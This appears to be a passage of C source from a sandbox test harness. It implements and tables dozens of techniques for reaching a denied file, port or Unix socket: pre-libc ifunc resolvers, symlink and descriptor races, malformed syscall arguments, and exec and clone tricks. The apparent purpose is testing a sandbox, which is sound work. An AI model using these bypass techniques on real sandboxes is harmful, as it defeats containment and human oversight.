/* What the dynamic loader calls while it links the program, before anything is initialised: no
 * libc, no variables. */
static void *resolve_chosen(void) {
    char line[8192], *word[6] = {0};
    long fd = bare(SYS_openat, AT_FDCWD, (long)"/proc/self/cmdline", O_RDONLY, 0, 0, 0), n = 0, m;
    int words = 0;
    if (fd < 0) return NULL;
    while ((m = bare(SYS_read, fd, (long)line + n, sizeof line - 1 - n, 0, 0, 0)) > 0) n += m;
    bare(SYS_close, fd, 0, 0, 0, 0, 0);
    line[n] = 0;
    /* From the word that asks for this on. */
    for (long at = 0; at < n && words < 6; at++) {
        if (at && line[at - 1]) continue;
        static const char wanted[] = "early-resolver";
        int same = 1;
        for (unsigned i = 0; same && i < sizeof wanted; i++) same = line[at + i] == wanted[i];
        if (words || same) word[words++] = line + at;
    }
    if (words < 4) return NULL;
    if (word[1][0] == 'r') {
        fd = bare(SYS_openat, AT_FDCWD, (long)word[2], O_RDONLY, 0, 0, 0);
    } else {
        struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = 0x0100007f};
        unsigned number = 0;
        for (char *digit = word[3]; *digit; digit++) number = number * 10 + *digit - '0';
        a.sin_port = number >> 8 | (number & 255) << 8;
        fd = bare(SYS_socket, AF_INET, SOCK_STREAM, 0, 0, 0, 0);
        if (bare(SYS_connect, fd, (long)&a, sizeof a, 0, 0, 0)) bare(SYS_exit_group, 1, 0, 0, 0, 0, 0);
        bare(SYS_write, fd, (long)"GET / HTTP/1.0\r\n\r\n", 18, 0, 0, 0);
    }
    n = fd < 0 ? fd : bare(SYS_read, fd, (long)line, sizeof line, 0, 0, 0);
    if (n > 0) bare(SYS_write, 1, (long)line, n, 0, 0, 0);
    bare(SYS_exit_group, n <= 0, 0, 0, 0, 0, 0);
    return NULL;
}

int chosen(void) __attribute__((ifunc("resolve_chosen")));
static int early_resolver(void) { return chosen(); }

/* Kinds of connections beside the plain one. */
static int multipath(void) {
    struct sockaddr_in a = address_of(port);
    int s = file ? -1 : socket(AF_INET, SOCK_STREAM, 262);
    if (s < 0) return ABSENT;
    return connect(s, (void *)&a, sizeof a) ? failed("connect") : talk(s);
}

static int reconnected(void) {
    struct sockaddr_in a = address_of(allowed_port), b = address_of(port);
    struct sockaddr none = {.sa_family = AF_UNSPEC};
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (file) return ABSENT;
    if (connect(s, (void *)&a, sizeof a) || connect(s, &none, sizeof none)) return failed("connect");
    return connect(s, (void *)&b, sizeof b) ? failed("connect") : talk(s);
}

static int not_blocking(void) {
    struct sockaddr_in a = address_of(port);
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    struct pollfd wait = {.fd = s, .events = POLLOUT};
    if (file) return ABSENT;
    if (connect(s, (void *)&a, sizeof a) && errno != EINPROGRESS) return failed("connect");
    poll(&wait, 1, 2000);
    fcntl(s, F_SETFL, 0);
    return talk(s);
}

/* Halves of registers that the kernel does not look at. */
static int wide_arguments(void) {
    struct sockaddr_in a = address_of(port);
    long s = socket(AF_INET, SOCK_STREAM, 0), high = 1L << 32;
    if (file) {
        long fd = bare(SYS_openat, high | (AT_FDCWD & 0xffffffff), (long)file, high | O_RDONLY, 0, 0, 0);
        return fd < 0 ? 1 : show(fd);
    }
    return bare(SYS_connect, high | s, (long)&a, high | sizeof a, 0, 0, 0) ? 1 : talk(s);
}

/* Strings that would be copied the wrong way round, were it not undone. */
static int backwards(void) {
    struct sockaddr_in a = address_of(port);
    long s = socket(AF_INET, SOCK_STREAM, 0), result, number = file ? SYS_open : SYS_connect;
    long first = file ? (long)file : s, second = file ? O_RDONLY : (long)&a;
    __asm__ volatile("std\n\tsyscall\n\tcld"
                     : "=a"(result)
                     : "a"(number), "D"(first), "S"(second), "d"(file ? 0L : (long)sizeof a)
                     : "rcx", "r11", "memory");
    return result < 0 ? 1 : file ? show(result) : talk(s);
}

/* On a stack of two pages, below which there is none. */
static ucontext_t caller, small;
static int small_result = 1;
static void on_small_stack(void) { small_result = plain(); }

static int small_stack(void) {
    char *pages = mmap(NULL, 12 << 10, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (pages == MAP_FAILED || mprotect(pages + 4096, 8 << 10, PROT_READ | PROT_WRITE)) return failed("mmap");
    getcontext(&small);
    small.uc_stack.ss_sp = pages + 4096;
    small.uc_stack.ss_size = 8 << 10;
    small.uc_link = &caller;
    makecontext(&small, on_small_stack, 0);
    swapcontext(&caller, &small);
    return small_result;
}

/* What it points to ends where nothing is mapped, and cannot be read but by the kernel. */
static int at_the_edge(void) {
    struct sockaddr_in a = address_of(port);
    size_t length = file ? strlen(file) + 1 : sizeof a;
    char *pages = mmap(NULL, 8 << 10, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (pages == MAP_FAILED || munmap(pages + 4096, 4096)) return failed("mmap");
    char *edge = pages + 4096 - length;
    memcpy(edge, file ? file : (char *)&a, length);
    mprotect(pages, 4096, PROT_READ);
    if (file) {
        int fd = open(edge, O_RDONLY);
        return fd < 0 ? failed("open") : show(fd);
    }
    return connect(s, (void *)edge, sizeof a) ? failed("connect") : talk(s);
}

/* Signals all the time, each of which opens or connects, too. */
static volatile int got_out = -1;
static void try_again(int signal) {
    struct sockaddr_in a = address_of(port);
    int saved = errno, s = file ? open(file, O_RDONLY) : socket(AF_INET, SOCK_STREAM, 0);
    (void)signal;
    if (file ? s >= 0 : !connect(s, (void *)&a, sizeof a)) {
        got_out = s;
    } else {
        close(s);
    }
    errno = saved;
}

static int signals_meanwhile(void) {
    struct sigaction action = {.sa_handler = try_again, .sa_flags = SA_NODEFER | SA_RESTART};
    struct itimerval often = {{0, 200}, {0, 200}}, never = {{0, 0}, {0, 0}};
    sigaction(SIGALRM, &action, NULL);
    setitimer(ITIMER_REAL, &often, NULL);
    for (int i = 0; i < 3000 && got_out < 0; i++) try_again(SIGALRM);
    setitimer(ITIMER_REAL, &never, NULL);
    return got_out < 0 ? 1 : file ? show(got_out) : talk(got_out);
}

static void *with_own_table(void *result) {
    *(int *)result = unshare(CLONE_FILES | CLONE_FS) ? ABSENT : plain();
    return NULL;
}

static int own_table(void) {
    pthread_t thread;
    int result = 1;
    pthread_create(&thread, NULL, with_own_table, &result);
    pthread_join(thread, NULL);
    return result;
}

static int cloned_three(void) {
    /* struct clone_args: the fifth is the signal at its end. */
    uint64_t args[11] = {[4] = SIGCHLD};
    int status = 0;
    long pid = bare(SYS_clone3, (long)args, sizeof args, 0, 0, 0, 0);
    if (pid < 0) return pid == -ENOSYS ? ABSENT : 1;
    if (pid == 0) _exit(plain());
    waitpid(pid, &status, 0);
    return WEXITSTATUS(status);
}

/* A number stands for sockets of two kinds, in turns: the denied address is one that datagrams may be
 * sent to, and what is connected in the end is a stream. */
static int numbered = 60, datagram, stream;

static void *swap_sockets(void *unused) {
    (void)unused;
    while (!stop) {
        dup2(datagram, numbered);
        dup2(stream, numbered);
    }
    return NULL;
}

/* A path stands for a socket in the folder of what is allowed, and for a link out of it. */
static char swapped[4200];

static void *swap_paths(void *unused) {
    char own[4200], link_to[4200], next[4300];
    (void)unused;
    snprintf(own, sizeof own, "%s", allowed_local);
    snprintf(link_to, sizeof link_to, "%s", local);
    snprintf(next, sizeof next, "%s-next", swapped);
    while (!stop) {
        if (link(own, next) == 0) rename(next, swapped);
        if (symlink(link_to, next) == 0) rename(next, swapped);
        unlink(next);
    }
    return NULL;
}

static int race_of_sockets(void) {
    pthread_t thread;
    time_t end = time(NULL) + 5;
    if (file) return ABSENT;
    if (local) {
        struct sockaddr_un peer;
        socklen_t length = sizeof peer;
        snprintf(swapped, sizeof swapped, "%s-swapped", allowed_local);
        pthread_create(&thread, NULL, swap_paths, NULL);
        while (time(NULL) < end) {
            int s = connect_local(swapped);
            memset(&peer, 0, length = sizeof peer);
            if (s >= 0 && !getpeername(s, (void *)&peer, &length) && !strcmp(peer.sun_path, local)) {
                stop = 1;
                return talk(s);
            }
            if (s >= 0) close(s);
        }
    } else {
        struct sockaddr_in a = address_of(port), peer;
        socklen_t length = sizeof peer;
        datagram = socket(AF_INET, SOCK_DGRAM, 0);
        stream = socket(AF_INET, SOCK_STREAM, 0);
        pthread_create(&thread, NULL, swap_sockets, NULL);
        while (time(NULL) < end) {
            connect(numbered, (void *)&a, sizeof a);
            if (!getpeername(stream, (void *)&peer, &length)) {
                stop = 1;
                return talk(stream);
            }
        }
    }
    stop = 1;
    fprintf(stderr, "never in 5 s\n");
    return 1;
}

static const struct technique TECHNIQUES[] = {
    {"plain", plain},
    {"bare-instruction", bare_instruction},
    {"wide-number", wide_number},
    {"x32-number", x32_number},
    {"interrupt", interrupt},
    {"by-number", by_number},
    {"fast-open-sendto", fast_open_sendto},
    {"fast-open-sendmsg", fast_open_sendmsg},
    {"fast-open-sendmmsg", fast_open_sendmmsg},
    {"fast-open-connect", fast_open_connect},
    {"mapped-address", mapped_address},
    {"unspecified-address", unspecified_address},
    {"race-of-memory", race_of_memory},
    {"race-of-links", race_of_links},
    {"forked", forked},
    {"cloned-bare", cloned_bare},
    {"cloned-sharing", cloned_sharing},
    {"in-handler", in_handler},
    {"exec-bare-environment", exec_bare_environment},
    {"exec-null-environment", exec_null_environment},
    {"exec-other-preload", exec_other_preload},
    {"exec-proc-self", exec_proc_self},
    {"exec-from-memory", exec_from_memory},
    {"exec-vfork", exec_vfork},
    {"exec-loader", exec_loader},
    {"own-memory", own_memory},
    {"trace-child", trace_child},
    {"ring", ring},
    {"by-handle", by_handle},
    {"path-then-reopen", path_then_reopen},
    {"hard-link", hard_link},
    {"move-folder", move_folder},
    {"openat2", open_by_kernel_2},
    {"other-process-root", other_process_root},
    {"passed-descriptor", passed_descriptor},
    {"unmap-guard", unmap_guard},
    {"jumps", jumps},
    {"mapped-once-more", mapped_once_more},
    {"mapped-execute-only", mapped_execute_only},
    {"mapped-without-descriptors", mapped_without_descriptors},
    {"mapped-implied", mapped_implied},
    {"exec-execute-only", exec_execute_only},
    {"exec-many-lines", exec_many_lines},
    {"lying-filter", lying_filter},
    {"mapped-shared", mapped_shared},
    {"race-of-descriptors", race_of_descriptors},
    {"race-of-working-folders", race_of_working_folders},
    {"exec-hidden-variables", exec_hidden_variables},
    {"early-resolver", early_resolver},
    {"race-of-sockets", race_of_sockets},
    {"multipath", multipath},
    {"reconnected", reconnected},
    {"not-blocking", not_blocking},
    {"wide-arguments", wide_arguments},
    {"backwards", backwards},
    {"small-stack", small_stack},
    {"at-the-edge", at_the_edge},
    {"signals-meanwhile", signals_meanwhile},
    {"own-table", own_table},
    {"cloned-three", cloned_three},
};

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 5) return 2;
    self = argv[0];
    host = "127.0.0.1";
    if (!strcmp(argv[2], "read")) {
        file = argv[3];
        allowed_file = argv[4];
    } else if (!strcmp(argv[2], "unix")) {
        local = argv[3];
        allowed_local = argv[4];
    } else if (argc > 5) {
        host = argv[3];
        port = atoi(argv[4]);
        allowed_port = atoi(argv[5]);
    }
    return run_technique(TECHNIQUES, sizeof TECHNIQUES / sizeof *TECHNIQUES, argv[1], argv[2]);
}
